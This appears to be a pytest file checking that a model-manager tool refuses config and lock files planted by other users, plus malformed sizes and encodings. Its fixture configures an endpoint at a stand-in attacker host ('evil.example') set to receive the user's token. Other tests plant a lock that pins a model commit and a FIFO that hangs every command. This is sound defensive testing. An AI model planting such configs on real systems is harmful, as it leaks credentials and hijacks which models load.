"""Project files others can plant or break (issue 9): a ``modelmgr.toml`` in a shared parent folder,
sizes that are no sizes, bytes that are no UTF-8, a broken lock. Each test says how it failed before."""
from __future__ import annotations

import os
from pathlib import Path

import pytest

from modelmgr.errors import ConfigError
from modelmgr.project.config import HUGGINGFACE_CO, load_config

from .helpers import cli


def project_dir() -> Path:
    return Path.cwd()  # tests/conftest.py runs every test in a fresh work folder


PLANTED = """
[[hub.endpoints]]
url = "http://evil.example:8080"
send_token = true
"""


def test_a_project_file_another_user_planted_in_a_parent_is_ignored(capsys):
    # Before: the file was taken like the user's own, and HF_TOKEN went to evil.example.
    planted = project_dir().parent / "modelmgr.toml"
    planted.write_text(PLANTED)
    os.chown(planted, 4242, 4242)
    config = load_config()
    assert [e.url for e in config.endpoints] == [HUGGINGFACE_CO]
    assert planted not in config.files
    (warning,) = [w for w in config.warnings if str(planted) in w]
    assert "uid 4242" in warning and "\n" not in warning
    outcome = cli(capsys, "config", "show")
    assert outcome.code == 0 and outcome.err.count(f"Warning: {planted} ignored") == 1


def test_a_project_file_the_user_did_not_write_never_sends_the_token(monkeypatch):
    # Before: a root-owned project file (trusted for its mirrors) could also hand out the token.
    import modelmgr.project.files as files

    planted = project_dir() / "modelmgr.toml"
    planted.write_text(PLANTED)  # owned by root: the tests run as root, we pretend to be uid 4242
    monkeypatch.setattr(files, "current_uid", lambda: 4242)
    config = load_config()
    (endpoint,) = config.endpoints
    assert endpoint.url == "http://evil.example:8080" and endpoint.send_token is False
    assert any("send_token ignored" in w and str(planted) in w for w in config.warnings)


@pytest.mark.parametrize("value", ["true", "-5", "1.5e400", '"-5G"', "[1]"])
def test_a_size_that_is_no_size_is_refused_with_file_and_line(value):
    # Before: `max_size = true` became a limit of 1 byte and `-5` was accepted.
    path = Path(os.environ["MODELMGR_CONFIG"])
    path.write_text(f"# team settings\n[cache]\ndir = \"/tmp/x\"\nmax_size = {value}\n")
    with pytest.raises(ConfigError) as raised:
        load_config()
    message = str(raised.value)
    assert str(path) in message and "line 4" in message and "\n" not in message


def test_a_latin1_byte_in_the_project_file_names_file_and_line(capsys):
    # Before: "unexpected UnicodeDecodeError", without the file's name.
    path = project_dir() / "modelmgr.toml"
    path.write_bytes(b'[run]\nbackend = "cpu"\n# caf\xe9\n')
    outcome = cli(capsys, "list")
    assert outcome.code == 1
    assert f"{path}, line 3" in outcome.err and "UTF-8" in outcome.err and "Traceback" not in outcome.err


def test_a_broken_lock_matters_only_to_commands_that_use_it(capsys):
    # Before: a Latin-1 byte in modelmgr.lock ended every command (even `list`) in
    # "unexpected UnicodeDecodeError"; a lock with `size = true` was read as 1 byte.
    (project_dir() / "modelmgr.toml").write_text('[models.tiny]\nid = "org/tiny"\n')
    lock = project_dir() / "modelmgr.lock"
    lock.write_bytes(b'version = 1\n\n[[model]]\nname = "tiny"\nid = "org/tiny"\n# \xff\n')
    assert cli(capsys, "list").code == 0
    assert load_config().models["tiny"].locked_commit is None
    outcome = cli(capsys, "sync", "--offline")
    assert outcome.code == 1 and f"{lock}, line 6" in outcome.err and "Traceback" not in outcome.err

    commit = "c" * 40
    lock.write_text(f'version = 1\n[[model]]\nname = "tiny"\nid = "org/tiny"\nrevision = "main"\ncommit = "{commit}"\n'
                    f'[[model.files]]\npath = "config.json"\nsize = true\ngit_sha1 = "{"d" * 40}"\n')
    outcome = cli(capsys, "sync", "--offline")
    assert outcome.code == 1 and str(lock) in outcome.err and "size True" in outcome.err
    lock.write_text(f'version = 1\n[[model]]\nname = "tiny"\nid = "org/tiny"\nrevision = "main"\ncommit = "{commit}"\n'
                    'files = ["config.json"]\n')
    outcome = cli(capsys, "sync", "--offline")
    assert outcome.code == 1 and "not a valid modelmgr lockfile" in outcome.err and "Traceback" not in outcome.err


def test_a_lock_another_user_planted_pins_nothing(capsys):
    # Before: a planted lock in the project folder decided which commit `run tiny` loads.
    (project_dir() / "modelmgr.toml").write_text('[models.tiny]\nid = "org/tiny"\n')
    lock = project_dir() / "modelmgr.lock"
    lock.write_text(f'version = 1\n[[model]]\nname = "tiny"\nid = "org/tiny"\nrevision = "main"\ncommit = "{"e" * 40}"\n')
    assert load_config().models["tiny"].locked_commit == "e" * 40
    os.chown(lock, 4242, 4242)
    assert load_config().models["tiny"].locked_commit is None


def test_a_bad_field_of_an_endpoint_or_alias_names_its_file(capsys):
    # Before: "invalid value 'maybe' for hub.endpoints.send_token" said nothing of which file.
    path = project_dir() / "modelmgr.toml"
    path.write_text('[[hub.endpoints]]\nurl = "http://mirror.example"\nsend_token = "maybe"\n')
    outcome = cli(capsys, "list")
    assert outcome.code == 1 and str(path) in outcome.err and "send_token" in outcome.err
    path.write_text('[models.tiny]\nid = 5\n')
    outcome = cli(capsys, "list")
    assert outcome.code == 1 and str(path) in outcome.err and "models.tiny.id" in outcome.err


def test_a_fifo_in_place_of_the_token_file_does_not_hang_every_command(tmp_path):
    # Before: $HF_HOME/token planted as a FIFO (a shared HF_HOME) blocked every command at
    # startup, in the open() of read_text.
    import subprocess
    import sys

    token = Path(os.environ["HF_HOME"]) / "token"
    token.parent.mkdir(parents=True, exist_ok=True)
    os.mkfifo(token)
    done = subprocess.run([sys.executable, "-m", "modelmgr", "list"], capture_output=True, text=True, timeout=60)
    assert done.returncode == 1 and str(token) in done.stderr and "Traceback" not in done.stderr
